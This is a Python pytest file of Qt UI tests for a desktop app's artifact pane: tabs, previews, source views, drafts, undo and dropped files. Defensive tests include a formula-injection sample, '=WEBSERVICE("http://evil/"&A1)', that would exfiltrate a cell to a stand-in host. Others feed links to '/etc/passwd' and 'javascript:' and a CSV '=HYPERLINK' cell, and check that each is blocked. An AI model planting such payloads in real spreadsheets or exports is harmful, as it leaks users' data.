"""The artifact pane by real keys and clicks: tabs, views, drafts, what nothing open offers, dropped files."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from PySide6.QtCore import QMimeData, QPoint, QPointF, Qt, QUrl
from PySide6.QtGui import QDesktopServices, QDragEnterEvent, QDropEvent, QGuiApplication
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QLineEdit, QPlainTextEdit, QWidget

from forgeapp.domain.artifact import Kind
from forgeapp.domain.code import Code, CodeFile
from forgeapp.domain.document import CodeBlock, Document, Paragraph, Run, TableBlock, plain_text
from forgeapp.domain.request import ForgeRequest
from forgeapp.domain.table import Table
from forgeapp.domain.workbook import Cell, Sheet, Workbook
from forgeapp.ui.artifact.draft_view import DraftView, reads_as_text
from forgeapp.ui.artifact.preview import MAX_ROWS, Preview, shortened
from forgeapp.ui.artifact.source import SourceView, source_of
from forgeapp.ui.artifact.tiles import DropMark
from forgeapp.ui.artifact.toolbar import VersionButton
from forgeapp.ui.commands import keys_of
from forgeapp.ui.controls import Button, SegmentedControl
from forgeapp.ui.richtext import BlocksView
from forgeapp.ui.workbench.live_turn import LiveTurn
from tests.fakes.provider_server import FakeServer, Reply
from tests.ui.pane_bench import CREW, PaneBench, bench

__all__ = ["bench"]

LETTER = Document("Letter", "# Letter\n\nDear crew,\n\nwe leave on *Tuesday*.\n")
SUMS = Workbook(
    "Sums", (Sheet("Year", {(0, 0): Cell("2", 2), (1, 0): Cell("3", 3), (2, 0): Cell("=SUM(A1:A2)")}, row_count=3),)
)
SCRIPT = Code("Script", (CodeFile("script.py", "python", "print('hello')\n"),))


def live_turn(bench: PaneBench) -> LiveTurn:
    live = LiveTurn(ForgeRequest("make it"), bench.workbench)
    live.begin_attempt("openai/gpt-4.1")
    return live


def test_nothing_open_offers_new_artifacts_templates_and_recent_ones(bench: PaneBench) -> None:
    bench.store(CREW, "Crew")
    bench.workbench.artifacts.refresh_recent()
    bench.wait(lambda: bench.pane.findChildren(QWidget, "recent_artifact"))
    bench.wait(lambda: bench.pane.findChildren(QWidget, "template_budget"))
    assert not bench.pane.tabs_row.isVisible()
    bench.click(bench.find(QWidget, "recent_artifact"))
    bench.wait(lambda: bench.workbench.artifacts.active)
    assert bench.pane.tabs.tabText(0) == "Crew"
    assert not bench.pane.empty.isVisible()


def test_a_click_on_a_kind_makes_a_blank_one_and_on_a_template_a_filled_one(bench: PaneBench) -> None:
    bench.click(bench.find(QWidget, "new_document"))
    bench.wait(lambda: bench.workbench.artifacts.active)
    bench.workbench.artifacts.close(bench.workbench.artifacts.tabs[0])
    bench.wait(lambda: bench.pane.empty.isVisible())
    bench.wait(lambda: bench.pane.findChildren(QWidget, "template_budget"))
    tile = bench.find(QWidget, "template_budget")
    tile.setFocus()
    QTest.keyClick(tile, Qt.Key.Key_Return)
    bench.wait(lambda: bench.workbench.artifacts.active)
    active = bench.workbench.artifacts.active
    assert active is not None and active.kind is Kind.SPREADSHEET


@pytest.mark.parametrize("width", [400, 720])
def test_everything_has_room_in_a_narrow_and_in_a_wide_pane(bench: PaneBench, width: int) -> None:
    bench.open(CREW)
    bench.pane.resize(width, 640)
    bench.wait(lambda: bench.pane.toolbar.width() == width)
    toolbar = bench.pane.toolbar
    shown = [child for child in toolbar.children() if isinstance(child, QWidget) and child.isVisible()]
    assert {"artifact_views", "undo", "redo", "version_menu", "export"} <= {child.objectName() for child in shown}
    for child in shown:
        assert child.width() >= child.minimumSizeHint().width(), child.objectName()
        assert toolbar.rect().contains(child.geometry()), child.objectName()
    assert bool(bench.find(VersionButton, "version_menu").text()) is (width == 720)


def test_a_click_on_a_segment_shows_the_view_and_each_tab_remembers_its_own(bench: PaneBench) -> None:
    bench.open(CREW)
    bench.show_view("preview")
    preview = bench.find(Preview, "preview")
    bench.wait(lambda: preview.blocks.blocks)
    bench.open(LETTER)
    assert bench.find(SegmentedControl, "artifact_views").value == "edit"
    bench.show_view("source")
    source = bench.find(SourceView, "source_view")
    bench.wait(lambda: source.source.shown == LETTER.markdown)
    bench.qtbot.mouseClick(
        bench.pane.tabs, Qt.MouseButton.LeftButton, pos=bench.pane.tabs.tabRect(0).topLeft() + QPoint(30, 16)
    )
    assert bench.find(SegmentedControl, "artifact_views").value == "preview"
    assert preview.isVisible()


def test_the_preview_computes_formulas_and_follows_a_change(bench: PaneBench) -> None:
    tab = bench.open(SUMS)
    bench.show_view("preview")
    preview = bench.find(Preview, "preview")

    def says(text: str) -> bool:
        tables = [block for block in preview.blocks.blocks if isinstance(block, TableBlock)]
        return any(plain_text(cell) == text for table in tables for row in table.rows for cell in row)

    bench.wait(lambda: says("5"))
    sheet = SUMS.sheets[0]
    cells = {**sheet.cells, (0, 0): Cell("40", 40)}
    tab.replace(replace(SUMS, sheets=(replace(sheet, cells=cells),)), "Edit")
    bench.wait(lambda: says("43"))


def test_a_preview_of_much_ends_with_how_much_more_there_is() -> None:
    row = ((Run("1"),),)
    blocks = (TableBlock(((Run("n"),),), (row,) * 1_000, (None,)), CodeBlock("", "x\n" * 4_000))
    table, rows_left, code, lines_left = shortened(blocks)
    assert isinstance(table, TableBlock) and len(table.rows) == MAX_ROWS
    assert rows_left == Paragraph((Run("800 more rows", italic=True),))
    assert isinstance(code, CodeBlock) and code.text.count("\n") == 1_499
    assert lines_left == Paragraph((Run("2,501 more lines", italic=True),))
    assert shortened(blocks[:0]) == ()


def test_a_preview_cuts_what_is_very_long_in_one_cell_or_line() -> None:
    short, long = (Run("Ada"),), (Run("a" * 1_000_000, bold=True), Run("b"))
    table, code = shortened((TableBlock((short, long), ((long, short),), (None, None)), CodeBlock("", "x" * 1_000_000)))
    cut = (Run("a" * 2_000 + "…", bold=True),)
    assert table == TableBlock((short, cut), ((cut, short),), (None, None))
    assert code == CodeBlock("", "x" * 2_000 + "…")


def test_a_sheet_too_large_to_lay_out_says_so_on_the_page_until_it_is_small_again(bench: PaneBench) -> None:
    tab = bench.open(SUMS)
    bench.show_view("preview")
    preview = bench.find(Preview, "preview")
    bench.wait(lambda: preview.blocks.blocks)
    far = replace(SUMS.sheets[0], cells={(60_000, 200): Cell("1", 1)}, row_count=60_001)
    tab.replace(replace(SUMS, sheets=(far,)), "Edit")
    bench.wait(lambda: preview.failure is not None)
    assert preview.failure is not None and preview.failure.isVisible()
    assert "too large" in preview.failure.title.text()
    assert preview.failure.geometry() == preview.rect()
    assert not bench.failures
    tab.undo_stack.undo()
    bench.wait(lambda: preview.failure is None)


@pytest.mark.parametrize(
    "address", ["file:///etc/passwd", "javascript:alert(1)", "smb://host/share", "HTTPS://a.example/"]
)
def test_links_of_a_preview_and_of_a_document_open_only_the_web_and_mail(
    bench: PaneBench, monkeypatch: pytest.MonkeyPatch, address: str
) -> None:
    opened: list[str] = []
    monkeypatch.setattr(QDesktopServices, "openUrl", staticmethod(lambda url: opened.append(url.toString())))
    bench.open(LETTER)
    bench.find(QWidget, "document_view").findChildren(BlocksView)[0].activate(address)
    bench.show_view("preview")
    bench.find(Preview, "preview").blocks.activate(address)
    assert opened == (["https://a.example/"] * 2 if address.startswith("HTTPS") else [])


def test_the_source_of_a_table_is_markdown_or_csv_and_copy_takes_it(bench: PaneBench) -> None:
    bench.open(CREW)
    bench.show_view("source")
    source = bench.find(SourceView, "source_view")
    bench.wait(lambda: source.source.shown.startswith("| Name"))
    assert "Crew" not in source.source.shown
    bench.click(source.findChild(QWidget, "segment_csv"))
    bench.wait(lambda: source.source.shown == "Name,Trade\nAda,Pilot\nBo,Cook\n")
    bench.click(bench.find(Button, "source_copy"))
    assert QGuiApplication.clipboard().text() == "Name,Trade\nAda,Pilot\nBo,Cook\n"
    assert bench.find(Button, "source_copy").text() == "Copied"


def test_the_source_of_a_workbook_shows_formulas_in_columns_and_copies_cells() -> None:
    source = source_of(SUMS, "formulas")
    assert source.shown == "   A\n1  2\n2  3\n3  =SUM(A1:A2)"
    assert source.copied == "2\n3\n=SUM(A1:A2)"
    assert '"A3": "=SUM(A1:A2)"' in source_of(SUMS, "json").shown


@pytest.mark.security
def test_copied_formulas_hold_nothing_that_exports_refuse() -> None:
    evil = '=WEBSERVICE("http://evil/"&A1)'
    cells = {(0, 0): Cell("=1+1", None, "@"), (0, 1): Cell(evil), (0, 2): Cell("=A1&1"), (0, 3): Cell("-5", -5)}
    source = source_of(Workbook(None, (Sheet("S", cells),)), "formulas")
    assert source.copied == "'=1+1\t#BLOCKED!\t=A1&1\t-5"
    assert evil in source.shown


def test_the_toolbar_names_the_keys_of_the_commands(bench: PaneBench) -> None:
    bench.open(CREW)
    toolbar = bench.pane.toolbar
    assert toolbar.undo.toolTip().endswith(keys_of("edit.undo"))
    assert toolbar.redo.toolTip().endswith(keys_of("edit.redo"))
    assert toolbar.export.toolTip().endswith(keys_of("artifact.export"))
    with pytest.raises(KeyError):
        keys_of("edit.nothing")


def test_csv_shown_as_source_runs_nothing_where_it_is_pasted() -> None:
    table = Table(None, ("a",), (("=HYPERLINK(1)",),))
    assert source_of(table, "csv").copied == "a\n'=HYPERLINK(1)\n"


def test_undo_and_redo_name_their_step_and_are_clickable(bench: PaneBench) -> None:
    tab = bench.open(CREW)
    toolbar = bench.pane.toolbar
    assert not toolbar.undo.isEnabled()
    tab.replace(replace(CREW, columns=("Name", "Job")), "Rename the column")
    assert "Rename the column" in toolbar.undo.toolTip()
    bench.click(toolbar.undo)
    assert tab.content == CREW
    assert not toolbar.undo.isEnabled()
    bench.click(toolbar.redo)
    assert tab.content != CREW


def test_a_double_click_renames_and_the_title_is_stored(bench: PaneBench) -> None:
    tab = bench.open(CREW)
    tabs = bench.pane.tabs
    bench.qtbot.mouseDClick(tabs, Qt.MouseButton.LeftButton, pos=tabs.tabRect(0).center())
    field = bench.find(QLineEdit, "artifact_title")
    bench.type(field, "Crew & guests")
    QTest.keyClick(field, Qt.Key.Key_Return)
    bench.wait(lambda: tab.title == "Crew & guests")
    bench.wait(lambda: bench.app.ledger.artifacts.version(tab.id).title == "Crew & guests")
    assert tabs.tabText(0) == "Crew && guests"


def test_escape_leaves_the_title_as_it_was(bench: PaneBench) -> None:
    tab = bench.open(CREW)
    bench.pane.tabs.setFocus()
    QTest.keyClick(bench.pane.tabs, Qt.Key.Key_F2)
    field = bench.find(QLineEdit, "artifact_title")
    bench.type(field, "Nothing")
    QTest.keyClick(field, Qt.Key.Key_Escape)
    assert not bench.pane.findChildren(QLineEdit, "artifact_title") or not field.isVisible()
    assert tab.title == "Crew"
    assert QApplication.focusWidget() is bench.pane.tabs


def test_the_cross_the_middle_button_and_delete_close_tabs(bench: PaneBench) -> None:
    for title in ("One", "Two", "Three"):
        bench.open(CREW, title)
    tabs, artifacts = bench.pane.tabs, bench.workbench.artifacts
    bench.qtbot.mouseClick(tabs, Qt.MouseButton.LeftButton, pos=tabs.cross(2).center())
    bench.wait(lambda: len(artifacts.tabs) == 2)
    bench.qtbot.mouseClick(tabs, Qt.MouseButton.MiddleButton, pos=tabs.tabRect(0).center())
    bench.wait(lambda: len(artifacts.tabs) == 1)
    assert tabs.tabText(0) == "Two"
    tabs.setFocus()
    QTest.keyClick(tabs, Qt.Key.Key_Delete)
    bench.wait(lambda: not artifacts.tabs)
    assert bench.pane.empty.isVisible()


def test_dragging_a_tab_past_another_changes_their_order(bench: PaneBench) -> None:
    for title in ("First", "Second"):
        bench.open(CREW, title)
    tabs = bench.pane.tabs
    start, end = tabs.tabRect(0).center(), tabs.tabRect(1).center() + QPoint(20, 0)
    QTest.mousePress(tabs, Qt.MouseButton.LeftButton, pos=start)
    QTest.mouseMove(tabs, start + QPoint(20, 0))
    QTest.mouseMove(tabs, end)
    QTest.mouseRelease(tabs, Qt.MouseButton.LeftButton, pos=end)
    assert [tab.title for tab in bench.workbench.artifacts.tabs] == ["Second", "First"]
    assert [tabs.tabText(0), tabs.tabText(1)] == ["Second", "First"]
    active = bench.workbench.artifacts.active
    assert active is not None and active.title == "First"


def test_arrow_keys_step_through_the_tabs(bench: PaneBench) -> None:
    for title in ("First", "Second"):
        bench.open(CREW, title)
    bench.pane.tabs.setFocus()
    QTest.keyClick(bench.pane.tabs, Qt.Key.Key_Left)
    active = bench.workbench.artifacts.active
    assert active is not None and active.title == "First"


def test_tabs_without_room_come_with_a_list_of_all(bench: PaneBench) -> None:
    for number in range(9):
        bench.open(CREW, f"A title of some length {number}")
    bench.wait(lambda: bench.pane.tabs_row.list_button.isVisible())
    bench.pane.resize(1_600, 640)
    bench.wait(lambda: not bench.pane.tabs_row.list_button.isVisible())


def test_a_draft_comes_to_the_front_grows_and_gives_way(bench: PaneBench) -> None:
    tab = bench.open(CREW)
    live = live_turn(bench)
    live.feed_artifact(Kind.CODE, "Sorter", "first line\n")
    bench.workbench.artifacts.show_draft(bench.workbench.chat, live)
    view = bench.find(DraftView, "draft_view")
    assert bench.pane.tabs.tabText(1) == "Writing Sorter…"
    assert not bench.pane.toolbar.isVisible()
    live.feed_artifact(Kind.CODE, "Sorter", "second line\n")
    bench.wait(lambda: view.text is not None and view.text.toPlainText() == "first line\nsecond line\n")
    bench.workbench.artifacts.end_draft(live)
    assert bench.pane.tabs.count() == 1
    assert bench.pane.page is not None and bench.pane.page.artifact is tab


def test_another_attempt_starts_the_draft_anew(bench: PaneBench) -> None:
    live = live_turn(bench)
    live.feed_artifact(Kind.CODE, None, "void\n")
    bench.workbench.artifacts.show_draft(bench.workbench.chat, live)
    view = bench.find(DraftView, "draft_view")
    bench.wait(lambda: view.text is not None and view.text.toPlainText() == "void\n")
    live.begin_attempt("openai/gpt-4.1")
    live.feed_artifact(Kind.CODE, None, "good\n")
    bench.wait(lambda: view.text is not None and view.text.toPlainText() == "good\n")
    bench.workbench.artifacts.end_draft(live)


def test_a_draft_follows_its_end_unless_the_reader_has_scrolled_up(bench: PaneBench) -> None:
    live = live_turn(bench)
    live.feed_artifact(Kind.CODE, None, "".join(f"line {number}\n" for number in range(200)))
    bench.workbench.artifacts.show_draft(bench.workbench.chat, live)
    view = bench.find(DraftView, "draft_view")
    bench.wait(lambda: view.text is not None and view.text.isVisible() and view.text.blockCount() > 200)
    text = bench.find(QPlainTextEdit, "draft_text")
    bar = text.verticalScrollBar()
    assert bar.value() == bar.maximum() > 0
    bar.setValue(3)
    live.feed_artifact(Kind.CODE, None, "one more\n" * 50)
    bench.wait(lambda: text.blockCount() > 250)
    assert bar.value() == 3
    bar.setValue(bar.maximum())
    live.feed_artifact(Kind.CODE, None, "the end\n" * 50)
    bench.wait(lambda: text.blockCount() > 300)
    assert bar.value() == bar.maximum()
    bench.workbench.artifacts.end_draft(live)


def test_another_tab_can_be_looked_at_while_a_draft_is_written(bench: PaneBench) -> None:
    tab = bench.open(CREW)
    live = live_turn(bench)
    live.feed_artifact(Kind.DOCUMENT, "Letter", "# Letter\n\nDear crew\n")
    bench.workbench.artifacts.show_draft(bench.workbench.chat, live)
    tabs = bench.pane.tabs
    bench.qtbot.mouseClick(tabs, Qt.MouseButton.LeftButton, pos=tabs.tabRect(0).topLeft() + QPoint(30, 16))
    assert bench.pane.page is not None and bench.pane.page.artifact is tab
    bench.qtbot.mouseClick(tabs, Qt.MouseButton.LeftButton, pos=tabs.tabRect(1).center())
    view = bench.find(DraftView, "draft_view")
    assert view.paper is not None or view.text is None
    bench.click(view.stop)
    assert live.is_stopping
    bench.workbench.artifacts.end_draft(live)


PLANETS = "Here they are.\n\n| Planet | Moons |\n|---|---|\n" + "".join(f"| Planet {n} | {n} |\n" for n in range(40))


def ask(bench: PaneBench, server: FakeServer) -> None:
    """A real turn, to a model that answers slowly."""
    bench.app.ledger.providers.add("openai", "openai-chat", server.base_url, ("gpt-4.1",), "PANE_BENCH_KEY", "openai")
    bench.workbench.composer.set_mode("providers")
    bench.workbench.send("Make a table of the planets with their moons")


def test_a_turn_shows_its_draft_and_then_the_stored_artifact(bench: PaneBench, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PANE_BENCH_KEY", "sk-test")
    with FakeServer(Reply(PLANETS, piece_delay_s=0.002)) as server:
        ask(bench, server)
        bench.wait(lambda: bench.pane.findChild(DraftView))
        assert bench.pane.draft_view is not None
        bench.wait(lambda: bench.pane.page)
        bench.wait(lambda: bench.workbench.chat.live is None)
    assert bench.pane.draft_view is None
    assert bench.pane.tabs.count() == 1
    active = bench.workbench.artifacts.active
    assert active is not None and isinstance(active.content, Table)
    assert len(active.content.rows) == 40


def test_a_stopped_turn_leaves_what_was_stored_of_it(bench: PaneBench, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PANE_BENCH_KEY", "sk-test")
    with FakeServer(Reply(PLANETS, stall_after=60)) as server:
        ask(bench, server)
        bench.wait(lambda: bench.pane.draft_view)
        bench.click(bench.find(Button, "draft_stop"))
        bench.wait(lambda: bench.workbench.chat.live is None)
    assert bench.pane.draft_view is None
    active = bench.workbench.artifacts.active
    assert active is not None and isinstance(active.content, Table)
    assert 0 < len(active.content.rows) < 40
    assert bench.pane.page is not None and bench.pane.page.artifact is active


@pytest.mark.parametrize(
    ("kind", "beginning", "is_text"),
    [
        (Kind.CODE, "| a |", True),
        (Kind.TABLE, "| a | b |\n", False),
        (Kind.TABLE, "name,trade\n", True),
        (Kind.SPREADSHEET, '{"sheets": [', True),
        (Kind.DOCUMENT, '{"a": 1}', False),
        (None, "# Title", False),
    ],
)
def test_code_csv_and_json_grow_as_text_and_the_rest_as_it_will_look(
    kind: Kind | None, beginning: str, is_text: bool
) -> None:
    assert reads_as_text(kind, beginning) is is_text


def drop(widget: QWidget, path: Path) -> QMimeData:
    mime = QMimeData()
    mime.setUrls([QUrl.fromLocalFile(str(path))])
    where, buttons = widget.rect().center(), Qt.MouseButton.LeftButton
    enter = QDragEnterEvent(where, Qt.DropAction.CopyAction, mime, buttons, Qt.KeyboardModifier.NoModifier)
    QApplication.sendEvent(widget, enter)
    assert enter.isAccepted()
    event = QDropEvent(QPointF(where), Qt.DropAction.CopyAction, mime, buttons, Qt.KeyboardModifier.NoModifier)
    QApplication.sendEvent(widget, event)
    return mime


def test_a_dropped_csv_opens_as_a_table(bench: PaneBench, tmp_path: Path) -> None:
    path = tmp_path / "crew.csv"
    path.write_text("Name,Trade\nAda,Pilot\n", encoding="utf-8")
    mime = QMimeData()
    mime.setUrls([QUrl.fromLocalFile(str(path))])
    enter = QDragEnterEvent(
        QPoint(200, 200),
        Qt.DropAction.CopyAction,
        mime,
        Qt.MouseButton.LeftButton,
        Qt.KeyboardModifier.NoModifier,
    )
    QApplication.sendEvent(bench.pane, enter)
    assert bench.find(DropMark, "drop_mark").isVisible()
    kept = drop(bench.pane, path)
    bench.wait(lambda: bench.workbench.artifacts.active)
    active = bench.workbench.artifacts.active
    assert active is not None and active.kind is Kind.TABLE
    assert isinstance(active.content, Table) and active.content.rows == (("Ada", "Pilot"),)
    assert not bench.pane.findChild(DropMark).isVisible()
    assert kept.hasUrls()


def test_a_file_dropped_on_a_text_is_opened_and_not_typed_into_it(bench: PaneBench, tmp_path: Path) -> None:
    path = tmp_path / "crew.csv"
    path.write_text("Name,Trade\nAda,Pilot\n", encoding="utf-8")
    tab = bench.open(LETTER)
    assert bench.pane.page is not None and bench.pane.page.editor is not None
    fields = [child for child in bench.pane.page.editor.findChildren(QWidget) if child.acceptDrops()]
    assert fields
    kept = drop(fields[0], path)
    bench.wait(lambda: len(bench.workbench.artifacts.tabs) == 2)
    assert tab.content == LETTER
    assert kept.hasUrls()


def test_the_version_menu_lists_how_each_came_to_be_and_leads_to_history(bench: PaneBench) -> None:
    tab = bench.open(CREW)
    bench.rename_first(tab, "Eve")
    button = bench.find(VersionButton, "version_menu")
    assert button.text() == "Version 2"
    bench.click(button)
    bench.wait(lambda: button.menu.isVisible())
    words = [action.text() for action in button.menu.actions() if action.text()]
    assert words[0].startswith("Version 2 · Edited")
    assert words[1].startswith("Version 1 · Made by openai/gpt-4.1")
    button.menu.actions()[1].trigger()
    button.menu.close()
    assert bench.find(SegmentedControl, "artifact_views").value == "history"
    history = bench.pane.page.view_in_sight if bench.pane.page else None
    bench.wait(lambda: history is not None and history.number == 1)  # type: ignore[attr-defined]


def test_the_pane_can_be_built_again_from_what_is_open(bench: PaneBench) -> None:
    bench.open(SCRIPT)
    tab = bench.open(CREW)
    tab.view = "source"
    bench.pane.hide()
    bench.pane.deleteLater()
    from forgeapp.ui.artifact.pane import ArtifactPane

    bench.pane = ArtifactPane(bench.workbench)
    bench.pane.resize(500, 600)
    bench.pane.show()
    assert [bench.pane.tabs.tabText(number) for number in range(2)] == ["Script", "Crew"]
    assert bench.find(SourceView, "source_view").isVisible()
